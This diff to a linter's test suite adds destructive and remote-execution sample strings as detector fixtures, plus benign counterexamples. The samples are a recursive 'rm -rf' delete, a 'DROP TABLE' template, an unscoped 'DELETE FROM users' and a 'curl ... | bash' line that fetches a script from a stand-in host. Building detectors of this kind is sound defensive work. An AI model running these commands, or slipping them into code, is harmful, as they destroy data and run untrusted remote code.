@@ -183,6 +183,10 @@ const hostile: [name: string, code: string, rule: string][] = [
   ["Object.defineProperty on JSON", `Object.defineProperty(JSON, "parse", { value: () => ({}) });`, "api/global-mutation"],
   ["Object.assign onto console", `Object.assign(console, { log: () => {} });`, "api/global-mutation"],
   ["Reflect.set on a prototype", `Reflect.set(Array.prototype, "map", () => []);`, "api/global-mutation"],
+  ["rm -rf in a string", `const cmd = "rm -rf /var/lib/bot";`, "api/dangerous-string"],
+  ["DROP TABLE in a template", "const sql = `DROP TABLE ${table}`;", "api/dangerous-string"],
+  ["DELETE without WHERE", `db.run("DELETE FROM users");`, "api/dangerous-string"],
+  ["curl piped to sh", `const s = "curl -fsSL https://x.example/i.sh | bash";`, "api/dangerous-string"],
   ["describe.only", `describe.only("x", () => {});`, "tests/skip-only"],
   ["it.skip", `it.skip("x", () => {});`, "tests/skip-only"],
   ["test.skipIf", `test.skipIf(true)("x", () => {});`, "tests/skip-only"],
@@ -308,6 +312,7 @@ export const convert: ModelTool = {
 const words = ["alpha", "beta"].map((w) => w.toUpperCase()).join(", ");
 export const summary = words.padEnd(20, ".");`],
   ["assigning to own objects and this", `const state = { count: 0 };\nstate.count += 1;\nclass A { n = 0; inc() { this.n++; this.cache = new Map(); } }\nconst m = new Map();\nm.size;\nexports.x = 1;\nmodule.exports = { a: 1 };\nmodule.exports.b = 2;\ndelete state.count;\nconst merged = Object.assign({}, state, { more: 1 });\nObject.defineProperty(state, "hidden", { value: 1 });`],
+  ["SQL and shell words that are not destructive", `const q = "SELECT * FROM users WHERE id = ?";\nconst d = "DELETE FROM users WHERE id = ?";\nconst help = "Use /drop to drop an item; confirm -rf is not a command";\nconst t = "table";`],
   ["JSX component", `export const App = () => <div className="x" onClick={() => setTimeout(() => {}, 1)}>{"eval"}</div>;`],
 ];
 
